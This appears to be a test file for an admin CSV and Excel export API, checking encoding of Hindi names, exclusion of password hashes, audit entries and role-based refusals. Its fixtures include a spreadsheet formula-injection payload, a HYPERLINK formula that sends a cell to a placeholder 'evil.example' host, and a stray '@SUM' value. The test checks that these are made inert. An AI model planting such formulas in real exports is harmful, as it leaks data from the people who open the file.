import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { createKit, type Kit, type PersonaName } from '../../requests/__tests__/request-test-kit';
import { download, FAKE_HASH, parseCsv, SECRET_COLUMN, today, unique, UTF8_BOM } from './export-test-kit';

let kit: Kit;
const HINDI_NAME = 'सुनीता देवी शर्मा';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/steal?c="&A1,"Click me")';
let hindiUsername: string;
let formulaUsername: string;

beforeAll(async () => {
  kit = await createKit();
  hindiUsername = unique('hindi');
  formulaUsername = unique('formula');
  await kit.db('users').insert([
    { username: hindiUsername, passwordHash: FAKE_HASH, name: HINDI_NAME, email: `${hindiUsername}@example.in`, phone: '9812345678', role: 'citizen', district: 'raisen', address: 'वार्ड 4, रायसेन' },
    { username: formulaUsername, passwordHash: FAKE_HASH, name: FORMULA_NAME, phone: '+919812345678', role: 'citizen', district: '@SUM(1+1)' },
  ]);
});
afterAll(async () => {
  await kit.db('users').whereIn('username', [hindiUsername, formulaUsername]).delete();
  await kit.close();
});

const LISTS = ['users', 'roles', 'request-types', 'locations'] as const;
const TABLE = { users: 'users', roles: 'roles', 'request-types': 'request_types', locations: 'locations' } as const;

describe('GET /api/admin/{list}/export as CSV', () => {
  it.each(LISTS)('%s: a UTF-8 CSV with BOM, one row per record, as an attachment that is never cached', async (list) => {
    const res = await download(kit.personas.admin.client, `/api/admin/${list}/export`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${list}-${today()}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.subarray(0, 3).equals(UTF8_BOM)).toBe(true);
    const { header, rows } = parseCsv(res.body);
    expect(header[0]).toBe('id');
    expect(header.filter((name) => SECRET_COLUMN.test(name))).toEqual([]);
    const [{ count }] = (await kit.db(TABLE[list]).count('* as count')) as Array<{ count: number }>;
    // Users: the live accounts (soft-deleted ones are left out, see below).
    if (list !== 'users') expect(rows).toHaveLength(Number(count));
    expect(new Set(rows.map((row) => row.id)).size).toBe(rows.length);
  });

  it('users: Hindi names come back as typed, no password hash anywhere, and formulas are inert', async () => {
    const res = await download(kit.personas.admin.client, '/api/admin/users/export');
    const text = res.body.toString('utf8');
    expect(text).not.toContain('$argon2');
    expect(text).not.toContain(FAKE_HASH);
    const { header, rows } = parseCsv(res.body);
    expect(header).toEqual(expect.arrayContaining(['id', 'username', 'name', 'email', 'phone', 'role', 'district', 'constituency', 'isActive', 'createdAt']));
    expect(header).not.toContain('passwordHash');
    const hindi = rows.find((row) => row.username === hindiUsername)!;
    expect(hindi.name).toBe(HINDI_NAME);
    expect(hindi.address).toBe('वार्ड 4, रायसेन');
    expect(hindi.isActive).toBe('true');
    expect(hindi.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    const formula = rows.find((row) => row.username === formulaUsername)!;
    expect(formula.name).toBe(`'${FORMULA_NAME}`);
    expect(formula.phone).toBe("'+919812345678");
    expect(formula.district).toBe("'@SUM(1+1)");
  });

  it('users: a soft-deleted account is left out of the list download', async () => {
    if (!(await kit.db.schema.hasColumn('users', 'deleted_at'))) return; // migration 010 (i11-api) adds the column
    const username = unique('gone');
    await kit.db('users').insert({ username, passwordHash: FAKE_HASH, name: 'Gone User', role: 'citizen', deletedAt: new Date() });
    const { rows } = parseCsv((await download(kit.personas.admin.client, '/api/admin/users/export')).body);
    expect(rows.map((row) => row.username)).not.toContain(username);
    await kit.db('users').where({ username }).delete();
  });
});

describe('GET /api/admin/{list}/export?format=xlsx', () => {
  async function workbookOf(list: string) {
    const res = await download(kit.personas.superAdmin.client, `/api/admin/${list}/export?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${list}-${today()}.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as unknown as ArrayBuffer);
    return { bytes: res.body, sheet: workbook.getWorksheet(list)! };
  }

  const rowsOf = (sheet: ExcelJS.Worksheet) => {
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const rows: Record<string, unknown>[] = [];
    sheet.eachRow((row, index) => {
      if (index > 1) rows.push(Object.fromEntries(header.map((name, i) => [name, (row.values as unknown[])[i + 1] ?? null])));
    });
    return { header, rows };
  };

  it('users: a real workbook with the Hindi name, typed numbers and booleans, inert formulas and no hash', async () => {
    const { bytes, sheet } = await workbookOf('users');
    const { header, rows } = rowsOf(sheet);
    expect(header.filter((name) => SECRET_COLUMN.test(name))).toEqual([]);
    const hindi = rows.find((row) => row.username === hindiUsername)!;
    expect(hindi.name).toBe(HINDI_NAME);
    expect(typeof hindi.id).toBe('number');
    expect(hindi.isActive).toBe(true);
    const formula = rows.find((row) => row.username === formulaUsername)!;
    expect(formula.name).toBe(`'${FORMULA_NAME}`);
    // No cell is a formula: every cell of the sheet holds a plain value.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    const zip = await JSZip.loadAsync(bytes);
    for (const name of Object.keys(zip.files)) {
      expect(await zip.file(name)?.async('string')).not.toContain('$argon2');
    }
  });

  it.each(['roles', 'request-types', 'locations'])('%s: every row of the table', async (list) => {
    const { sheet } = await workbookOf(list);
    const { header, rows } = rowsOf(sheet);
    expect(header[0]).toBe('id');
    const [{ count }] = (await kit.db(TABLE[list as keyof typeof TABLE]).count('* as count')) as Array<{ count: number }>;
    expect(rows).toHaveLength(Number(count));
  });

  it('locations: Hindi names of the seed come back', async () => {
    const { rows } = rowsOf((await workbookOf('locations')).sheet);
    expect(rows.find((row) => row.code === 'raisen')).toMatchObject({ name: 'Raisen', nameHi: 'रायसेन', type: 'district' });
  });
});

describe('the record of who exported', () => {
  it('writes an audit entry (who, what, format, from where) for each export, and none for a refused one', async () => {
    const admin = kit.personas.admin;
    const [{ max }] = (await kit.db('adminAudit').max('id as max')) as Array<{ max: number | null }>;
    await download(admin.client, '/api/admin/locations/export?format=xlsx');
    await download(admin.client, '/api/admin/database/export?format=ndjson');
    await kit.personas.staff.client.get('/api/admin/users/export');
    const entries = await kit.db('adminAudit').where({ entity: 'export', actorId: admin.user!.id }).where('id', '>', max ?? 0).orderBy('id');
    expect(entries.map((entry) => [entry.action, entry.entityId, entry.after])).toEqual([
      ['create', 'locations', { format: 'xlsx' }],
      ['create', 'database', { format: 'ndjson' }],
    ]);
    expect(entries[0].ip).toBeTruthy();
    const staffId = kit.personas.staff.user!.id;
    expect(await kit.db('adminAudit').where({ entity: 'export', actorId: staffId }).first()).toBeUndefined();
  });
});

describe('who may download, and what the query may say', () => {
  const refused: Array<[PersonaName, number]> = [
    ['anonymous', 401],
    ['citizenA', 403],
    ['staff', 403],
    ['ministerStaff', 403],
    ['official', 403],
  ];
  const paths = [...LISTS.map((list) => `/api/admin/${list}/export`), '/api/admin/database/export'];

  it.each(refused)('%s is refused (%i) on every export', async (persona, status) => {
    for (const path of paths) {
      const res = await kit.personas[persona].client.get(path);
      expect([path, res.status]).toEqual([path, status]);
      expect(res.headers['content-disposition']).toBeUndefined();
    }
  });

  it('answers 400 for an unknown format or an unknown query key', async () => {
    const admin = kit.personas.admin.client;
    for (const path of LISTS.map((list) => `/api/admin/${list}/export`)) {
      expect((await admin.get(`${path}?format=pdf`)).status).toBe(400);
      expect((await admin.get(`${path}?format=ndjson`)).status).toBe(400);
      expect((await admin.get(`${path}?limit=10`)).status).toBe(400);
    }
    expect((await admin.get('/api/admin/database/export?format=xlsx')).status).toBe(400);
    expect((await admin.get('/api/admin/database/export?tables=users')).status).toBe(400);
  });
});
